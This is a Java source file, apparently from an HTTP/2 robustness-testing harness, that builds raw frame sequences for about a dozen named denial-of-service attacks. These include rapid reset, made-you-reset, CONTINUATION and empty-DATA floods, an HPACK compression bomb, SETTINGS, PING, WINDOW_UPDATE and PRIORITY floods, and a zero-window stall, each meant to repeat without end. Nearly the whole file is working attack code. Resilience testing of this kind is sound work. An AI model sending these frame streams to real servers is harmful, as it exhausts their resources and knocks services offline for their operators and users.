import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/** What one HTTP/2 attacker sends on one connection: the beginning, then more of the same for ever. */
final class Frames {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RESET = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int AT_ONCE = 50;

    private final String attack;
    private int stream = 1;

    Frames(String attack) {
        this.attack = attack;
    }

    byte[] first() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        boolean stall = attack.equals("h2-window-stall");
        // INITIAL_WINDOW_SIZE 0: no stream may be sent anything.
        frame(out, SETTINGS, 0, 0, stall ? new byte[] {0, 4, 0, 0, 0, 0} : new byte[0]);
        switch (attack) {
            case "h2-window-stall" -> {
                for (int i = 0; i < 100; i++) {
                    frame(out, HEADERS, END_STREAM | END_HEADERS, next(), request("/large", "GET"));
                }
            }
            case "h2-continuation" -> frame(out, HEADERS, END_STREAM, next(), request("/", "GET"));
            case "h2-empty-data" -> frame(out, HEADERS, END_HEADERS, next(), request("/", "POST"));
            default -> {}
        }
        return out.toByteArray();
    }

    /** Empty: nothing more. */
    byte[] more() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < AT_ONCE; i++) {
            switch (attack) {
                case "h2-rapid-reset" -> {
                    int id = next();
                    frame(out, HEADERS, END_STREAM | END_HEADERS, id, request("/", "GET"));
                    frame(out, RESET, 0, id, new byte[] {0, 0, 0, 8});
                }
                case "h2-made-you-reset" -> {
                    int id = next();
                    frame(out, HEADERS, END_HEADERS, id, request("/", "POST"));
                    frame(out, WINDOW, 0, id, new byte[4]);
                }
                case "h2-continuation" -> frame(out, CONTINUATION, 0, 1, new byte[i % 2]);
                case "h2-hpack-bomb" -> bomb(out);
                case "h2-settings" -> frame(out, SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, (byte) 255, (byte) 255});
                case "h2-ping" -> frame(out, PING, 0, 0, new byte[8]);
                case "h2-empty-data" -> frame(out, DATA, 0, 1, new byte[0]);
                case "h2-windows" -> frame(out, WINDOW, 0, 0, new byte[] {0, 0, 0, 1});
                case "h2-priority" -> frame(out, PRIORITY, 0, next(), new byte[5]);
                case "h2-requests" -> frame(out, HEADERS, END_STREAM | END_HEADERS, next(), request("/", "GET"));
                default -> {
                    return new byte[0];
                }
            }
        }
        return out.toByteArray();
    }

    /** One field of 3 KB into the table, then thousands of references of a byte each. */
    private void bomb(ByteArrayOutputStream out) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(request("/", "GET"));
        block.write(0x40);
        block.write(1);
        block.write('x');
        block.write(0x7f);
        block.write(0x80 | (3000 - 127 & 0x7f));
        block.write(3000 - 127 >> 7);
        block.writeBytes(new byte[3000]);
        byte[] zeros = block.toByteArray();
        java.util.Arrays.fill(zeros, zeros.length - 3000, zeros.length, (byte) 'a');
        block.reset();
        block.writeBytes(zeros);
        for (int i = 0; i < 12_000; i++) {
            block.write(0xbe);
        }
        frame(out, HEADERS, END_STREAM | END_HEADERS, next(), block.toByteArray());
    }

    private int next() {
        int id = stream;
        stream += 2;
        return id;
    }

    private static byte[] request(String path, String method) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(method.equals("GET") ? 0x82 : 0x83);
        block.write(0x86);
        literal(block, 4, path);
        literal(block, 1, "a.test");
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, int name, String value) {
        block.write(name);
        block.write(value.length());
        block.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        out.write(payload.length >> 16);
        out.write(payload.length >> 8);
        out.write(payload.length);
        out.write(type);
        out.write(flags);
        out.write(stream >> 24);
        out.write(stream >> 16);
        out.write(stream >> 8);
        out.write(stream);
        out.writeBytes(payload);
    }
}
